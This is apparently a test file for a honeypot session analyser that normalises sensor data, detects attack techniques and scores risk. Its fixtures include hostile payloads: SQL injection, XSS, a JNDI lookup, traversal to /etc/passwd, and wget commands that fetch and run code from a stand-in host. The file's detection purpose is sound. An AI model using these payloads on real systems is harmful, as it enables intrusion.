import type { Session } from '@aegis/model';
import { expect, test } from 'vitest';
import { analyze } from './analyze.ts';
import { CHROME, command, login, NOW, request, START, series, sessionOf } from './analyze-fixtures.ts';
import { enrich } from './enrich/enrich.ts';
import { emptyIntel, type Intel } from './enrich/intel.ts';
import { SEVERITY } from './enrich/severity.ts';
import { evaluate } from './evaluate/evaluate.ts';
import { RISK_WEIGHTS } from './evaluate/risk.ts';
import { normalize } from './normalize/normalize.ts';

/** What the analytics contract promises, sentence by sentence; the depth of each is in the tests beside its file. */

const base = { sess_uuid: 'attack-sqli-001', peer_ip: '192.168.1.100', start_time: START / 1000 };

function normalized(over: object): Session {
  const result = normalize({ ...base, ...over }, { receivedAt: NOW });
  if (!result.ok) throw new Error(result.error.message);
  return result.value;
}

function record(session: Session, intel: Intel = emptyIntel) {
  return analyze(session, intel, NOW).record;
}

const UNION = "/a?id=1'%20UNION%20SELECT%20password%20FROM%20users--";

// Input: one session

test.each([
  ['a map of path to type', { '/login': 'sqli' }, ['sql_injection']],
  ['a map of path to types', { '/login': ['sqli', 'xss'] }, ['sql_injection', 'cross_site_scripting']],
  ['a map of type to count', { sqli: 3, index: 9 }, ['sql_injection', 'index']],
  ['a list', ['sqli', 'lfi'], ['sql_injection', 'local_file_inclusion']],
  ['one type', 'cmd_exec', ['command_execution']],
  ['several with commas', 'rfi, crlf', ['remote_file_inclusion', 'crlf_injection']],
])('attack_types as %s', (_, attack_types, labels) => {
  expect(normalized({ attack_types }).labels).toEqual(labels);
});

test("TANNER's further fields are read, in both spellings, and nonsense in them is no error", () => {
  const session = normalized({
    end_time: START / 1000 + 330,
    snare_uuid: 's-1',
    location: { country: 'Germany', country_code: 'DE', city: 'Berlin', zip_code: '10115' },
    requests_in_second: 2,
    requests_per_second: '2',
    approx_time_between_requests: 0.5,
    accepted_paths: 3,
    errors: 1,
    hidden_links: '2',
    attack_count: { sqli: 1 },
    cookies: { sess_uuid: 'x' },
    referer: 'http://r.example/',
    possible_owners: { attacker: 1 },
    paths: [{ path: '/x', timestamp: START / 1000 + 1, response_status: 200, attack_type: 'sqli' }],
  });
  expect(session).toMatchObject({ sensorId: 's-1', country: 'DE', hiddenLinks: 2, endedAt: START + 330_000 });
  expect(session.labels).toEqual(['sql_injection']);
  expect(normalized({ location: 'NA' })).not.toHaveProperty('country');
});

test.each([
  START / 1000,
  String(START / 1000),
  START,
  String(START),
  '2026-01-01T00:00:00Z',
  '2026-01-01T01:00:00+01:00',
])('the time %s', (start_time) => {
  expect(normalized({ start_time }).startedAt).toBe(START);
});

// 1 Normalizer

test.each([
  ['192.168.1.1/24', '192.168.1.1'],
  ['::ffff:192.0.2.1', '192.0.2.1'],
  ['fe80::1%eth0', 'fe80::1'],
  ['[2001:DB8:0:0:0:0:0:1]', '2001:db8::1'],
  [' 192.0.2.1\n', '192.0.2.1'],
])('the address %j is cleaned', (peer_ip, client) => {
  expect(normalized({ peer_ip }).client).toBe(client);
});

test.each([
  ['sqli', 'sql_injection'],
  ['xss', 'cross_site_scripting'],
  ['lfi', 'local_file_inclusion'],
  ['rfi', 'remote_file_inclusion'],
  ['cmd_exec', 'command_execution'],
  ['crlf', 'crlf_injection'],
  ['php_code_injection', 'php_code_injection'],
  ['php_object_injection', 'php_object_injection'],
  ['xxe_injection', 'xxe_injection'],
  ['template_injection', 'template_injection'],
  ['index', 'index'],
  ['wp-content', 'wp-content'],
  ['unknown', 'unknown'],
  ['never heard of', 'unknown'],
])('%s becomes %s', (name, type) => {
  expect(normalized({ attack_types: [name] }).labels).toEqual([type]);
});

test('what is missing is derived: end, count, agent; control characters and NULs are gone', () => {
  const { start_time: _, ...timeless } = base;
  const result = normalize(
    {
      ...timeless,
      peer_port: '443',
      user_agent: ' a\0 \t b\n',
      requests: [
        { path: '/1', timestamp: START / 1000 },
        { path: '/2', timestamp: START / 1000 + 5 },
      ],
    },
    { receivedAt: NOW },
  );
  expect(result.ok && result.value).toMatchObject({
    startedAt: START,
    endedAt: START + 5_000,
    observationCount: 2,
    clientPort: 443,
    userAgent: 'a b',
  });
});

test.each(['sess_uuid', 'peer_ip', 'start_time'])('%s is required', (field) => {
  const { [field as 'sess_uuid']: _, ...rest } = base;
  expect(normalize(rest, { receivedAt: NOW })).toMatchObject({ ok: false, error: { field } });
});

test('a login over HTTP and the request that carried it are one', () => {
  const requests = [{ path: '/login', method: 'POST', timestamp: START / 1000 }];
  const logins = [{ time: START, username: 'root', success: false }];
  expect(record(normalized({ requests, logins })).request_count).toBe(1);
  expect(record(normalized({ protocol: 'ssh', logins: [...logins, ...logins] })).request_count).toBe(2);
});

// 2 Enricher

test('intelligence comes from what is known of the address', () => {
  const intel: Intel = {
    reputation: () => ({ known: true, categories: ['botnet', 'tor_exit'], score: 85 }),
    geo: () => ({ country: 'DE', asn: 64_496, asName: 'EXAMPLE' }),
  };
  expect(record(sessionOf([request(0, '/')], CHROME), intel).threat_intelligence).toEqual({
    is_known_malicious: true,
    threat_categories: ['botnet', 'tor_exit'],
    reputation_score: 85,
    country: 'DE',
    asn: 64_496,
    as_name: 'EXAMPLE',
  });
});

test('techniques are found in the requests, whatever the sensor called them', () => {
  const { attack_patterns: patterns } = record(sessionOf([request(0, UNION)], CHROME, { labels: ['index'] }));
  expect(patterns.techniques).toEqual(['sql_injection']);
  expect(patterns.indicators).toContain('union_based_sqli');
  expect(patterns.mitre_attack).toContain('T1190');
});

test('sophistication is low, medium or high', () => {
  const one = record(sessionOf([request(0, '/?q=%3Cb%20onclick=a()%3E')], CHROME));
  const many = record(
    sessionOf(
      [
        request(0, `/?q=%2527%2520UNION%2520SELECT%2520${'concat(0x7e,version()),'.repeat(12)}1--`),
        request(1, '/?q=%253Cscript%253Ealert(1)%253C/script%253E'),
        request(2, '/?q=%24%7B%24%7Blower:j%7Dndi:ldap://203.0.113.1/a%7D'),
        request(3, '/?q=..%252f..%252fetc%252fpasswd%2500'),
        request(4, `/?q=;bash -c "$(echo aWQ=|base64 -d)"`),
      ],
      CHROME,
    ),
  );
  expect(one.attack_patterns.sophistication).not.toBe('high');
  expect(many.attack_patterns.sophistication).toBe('high');
  expect(record(sessionOf([request(0, '/')], CHROME)).attack_patterns.sophistication).toBe('low');
});

test('phases rise: looking around, scanning, exploiting, staying', () => {
  const { attack_patterns: patterns, request_pattern } = record(
    sessionOf(
      [
        request(0, '/'),
        request(1_000, '/.env', { status: 404 }),
        request(2_000, UNION),
        request(3_000, '/?c=%3Bwget%20http://203.0.113.1/x%20-O%20/tmp/x%3Bchmod%20755%20/tmp/x'),
      ],
      CHROME,
    ),
  );
  expect(patterns.phases).toEqual(['reconnaissance', 'scanning', 'exploitation', 'persistence_attempt']);
  expect(patterns.escalation).toBe(true);
  expect(request_pattern.sequences).toContain('ordered_exploitation');
});

test.each([
  ['sqlmap/1.5.2#stable (https://sqlmap.org)', 'sqlmap', '1.5.2'],
  ['Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)', 'nikto', '2.1.6'],
  ['Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'nuclei', undefined],
  ['masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 'masscan', '1.3'],
  ['Mozilla/5.0 zgrab/0.x', 'zgrab', undefined],
  ['curl/8.5.0', 'curl', '8.5.0'],
  ['python-requests/2.31.0', 'python-requests', '2.31.0'],
])('the tool behind %s', (userAgent, name, version) => {
  const { user_agent_info: info } = record(sessionOf([request(0, '/')], userAgent));
  expect(info.is_bot).toBe(true);
  expect(info.tool_name?.toLowerCase()).toBe(name);
  if (version !== undefined) expect(info.version).toBe(version);
});

test('a declared crawler is verified only where its address proves it', () => {
  const agent = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
  const session = sessionOf([request(0, '/')], agent);
  const asked: string[] = [];
  const proof = (answer: boolean | undefined): Intel => ({
    ...emptyIntel,
    crawler: (_, name) => {
      asked.push(name);
      return answer;
    },
  });
  expect(record(session, proof(true)).user_agent_info.verified).toBe(true);
  expect(record(session, proof(undefined)).user_agent_info.verified).toBe(false);
  expect(record(session).user_agent_info.verified).toBe(false);
  expect(asked.length).toBeGreaterThan(0);
});

test('rate, rhythm, order and length of a session', () => {
  const slow = record(
    sessionOf(
      series(10, 40_000, (at, i) => request(at, `/${i}`)),
      CHROME,
    ),
  ).request_pattern;
  expect([slow.prolonged, slow.automated, slow.diversity, slow.burstiness]).toEqual([true, false, 1, 0]);
  const fast = record(
    sessionOf(
      series(60, 100, (at, i) => request(at, `/${i}`, { status: 404 })),
      CHROME,
    ),
  ).request_pattern;
  expect([fast.prolonged, fast.automated]).toEqual([false, true]);
  expect(fast.sequences).toContain('path_enumeration');
  const stuffing = record(
    sessionOf(
      series(20, 500, (at, i) => login(at, `user${i}`)),
      '',
      { protocol: 'ssh' },
    ),
  );
  expect(stuffing.request_pattern.sequences).toContain('credential_stuffing');
  expect(stuffing.attack_types).toContain('credential_stuffing');
});

test('payloads come from path, query, body, headers and cookies, decoded, once each, with where and why', () => {
  const { payloads } = record(
    sessionOf(
      [
        request(0, '/..%2f..%2fetc/passwd?q=%253Cscript%253Ealert(1)%253C/script%253E', {
          method: 'POST',
          body: 'x=%27%20or%201%3D1--',
          headers: { 'x-api': '$%7Bjndi:ldap://203.0.113.1/a%7D' },
          cookies: { c: 'O:4:"Evil":1:{s:1:"a";i:1;}' },
        }),
        request(1, '/?q=%253Cscript%253Ealert(1)%253C/script%253E'),
      ],
      CHROME,
    ),
  );
  expect(payloads.map(({ place }) => place).sort()).toEqual(['body', 'cookie', 'header', 'path', 'query']);
  const script = payloads.find(({ place }) => place === 'query');
  expect(script).toMatchObject({ part: 'q', layers: ['url', 'url'], decoded: '<script>alert(1)</script>' });
  for (const { why, techniques } of payloads) {
    expect(why).not.toBe('');
    expect(techniques.length).toBeGreaterThan(0);
  }
});

test('owners are estimated for all five kinds', () => {
  const owners = enrich(sessionOf([request(0, UNION)], 'sqlmap/1.7'), emptyIntel).owners;
  expect(Object.keys(owners).sort()).toEqual(['admin', 'attacker', 'crawler', 'tool', 'user']);
});

// 3 Evaluator

test('risk is 30 + 20 + 25 + 15 + 10, and the breakdown adds up to it', () => {
  expect(RISK_WEIGHTS).toEqual({
    severity: 0.3,
    volume: 0.2,
    payload: 0.25,
    reputation: 0.15,
    complexity: 0.1,
  });
  for (const session of [
    sessionOf([request(0, UNION)], 'sqlmap/1.7'),
    sessionOf([command(0, 'wget http://203.0.113.1/x; sh x')], '', { protocol: 'ssh' }),
    sessionOf([request(0, '/')], CHROME),
  ]) {
    const { risk_breakdown: breakdown, risk_score } = record(session);
    const sum = Object.values(breakdown).reduce((total, part) => total + part.score * part.weight, 0);
    expect(Math.abs(sum - risk_score)).toBeLessThan(0.6);
    for (const part of Object.values(breakdown)) expect(part.why).not.toBe('');
  }
});

test('severity keeps the order of the contract', () => {
  const grades = [
    ['command_execution', 'remote_file_inclusion', 'php_code_injection', 'php_object_injection'],
    ['sql_injection', 'xxe_injection', 'template_injection'],
    ['cross_site_scripting', 'local_file_inclusion', 'crlf_injection'],
    ['index'],
    ['unknown'],
  ] as const;
  for (let i = 1; i < grades.length; i++) {
    const above = Math.min(...(grades[i - 1] ?? []).map((type) => SEVERITY[type]));
    const below = Math.max(...(grades[i] ?? []).map((type) => SEVERITY[type]));
    expect(above).toBeGreaterThan(below);
  }
});

test('confidence reaches 100, and 0 where there was nothing to judge', () => {
  const sure = evaluate(
    enrich(
      sessionOf(
        series(20, 100, (at) => request(at, UNION)),
        'sqlmap/1.7',
        { labels: ['sql_injection'] },
      ),
      emptyIntel,
    ),
  );
  expect(sure.confidence).toBe(100);
  expect(evaluate(enrich(sessionOf([], ''), emptyIntel)).confidence).toBe(0);
});

test('impact is graded in four kinds, and every recommendation has its reason', () => {
  const result = record(
    sessionOf(
      series(30, 50, (at) => request(at, UNION)),
      'sqlmap/1.7',
    ),
  );
  expect(Object.keys(result.impact).sort()).toEqual([
    'data_exfiltration',
    'intrusion',
    'resource_consumption',
    'service_disruption',
  ]);
  expect(result.recommendations).toEqual(
    expect.arrayContaining(['block_ip_immediately', 'update_waf_rules', 'alert_security_team']),
  );
  expect(Object.keys(result.recommendation_reasons).sort()).toEqual([...result.recommendations].sort());
});

test('reasons name the kind of an attack only with its own type', () => {
  const { proposals } = analyze(
    sessionOf(
      [
        request(0, `/?id=1'%20or%20'1'='1`),
        ...series(40, 100, (at) => request(at, '/?c=%3Bcat%20/etc/passwd')),
      ],
      'sqlmap/1.7',
    ),
    emptyIntel,
    NOW,
  );
  expect(proposals[0]?.reason).toContain('command execution');
  expect(proposals[0]?.reason).not.toContain('boolean');
});

// Output record

test('the record has the fields of the contract, in its spelling', () => {
  const result = record(
    normalized({
      peer_port: 54321,
      user_agent: 'sqlmap/1.5.2',
      end_time: START / 1000 + 330,
      attack_types: { '/login': 'sqli' },
      requests: [{ method: 'POST', path: '/login', headers: {}, cookies: {} }],
      request_count: 15,
    }),
  );
  expect(result).toMatchObject({
    sess_uuid: 'attack-sqli-001',
    peer_ip: '192.168.1.100',
    peer_port: 54321,
    user_agent: 'sqlmap/1.5.2',
    start_time: '2026-01-01T00:00:00Z',
    end_time: '2026-01-01T00:05:30Z',
    request_count: 15,
    processed_at: '2026-01-01T01:00:00Z',
  });
  expect(result.attack_types).toContain('sql_injection');
  for (const field of [
    'threat_intelligence',
    'attack_patterns',
    'user_agent_info',
    'risk_score',
    'threat_level',
    'priority',
    'confidence_score',
    'recommendations',
  ])
    expect(result).toHaveProperty(field);
});
